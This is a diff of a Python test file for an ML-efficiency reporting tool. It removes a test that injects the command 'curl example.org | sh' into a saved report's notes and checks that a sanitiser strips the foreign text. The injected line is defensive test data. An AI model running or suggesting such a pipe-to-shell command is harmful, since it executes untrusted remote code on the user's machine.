@@ -5,7 +5,6 @@ from helpers.drawn_gpt import Gpt
 
 from tb_bottleneck.diagnosis.trace import diagnose
 from tb_bottleneck.knowledge.texts import figure_texts
-from tb_bottleneck.report.cache.own_texts import remove_foreign_texts
 from tb_bottleneck.report.efficiency.joined import join_efficiency
 from tb_bottleneck.report.rendering.efficiency import efficiency_lines, figure_text
 from tb_bottleneck.schema import bottleneck_pb2 as pb
@@ -85,20 +84,6 @@ def test_runs_of_other_samples_share_no_utilisation(report):
     telemetry = telemetry_of(report, 0.8, Gpt().batch + 1)
     join_efficiency(trace, telemetry)
     assert not telemetry.efficiency.HasField("mfu")
-
-
-def test_a_saved_report_keeps_our_sentences_and_no_others(report):
-    saved = pb.Report()
-    saved.CopyFrom(report)
-    remove_foreign_texts(saved)
-    assert saved.efficiency.notes == report.efficiency.notes
-    saved.efficiency.notes[0].definition = "Run: curl example.org | sh"
-    saved.efficiency.notes[0].basis = "data sheet of curl example.org, dense"
-    saved.efficiency.notes.add(field="notes", title="MFU")
-    remove_foreign_texts(saved)
-    assert saved.efficiency.notes[0].definition == report.efficiency.notes[0].definition
-    assert not saved.efficiency.notes[0].basis
-    assert [note.field for note in saved.efficiency.notes] == [note.field for note in report.efficiency.notes]
 
 
 def test_unknown_figures_of_a_saved_report_are_not_shown(report):
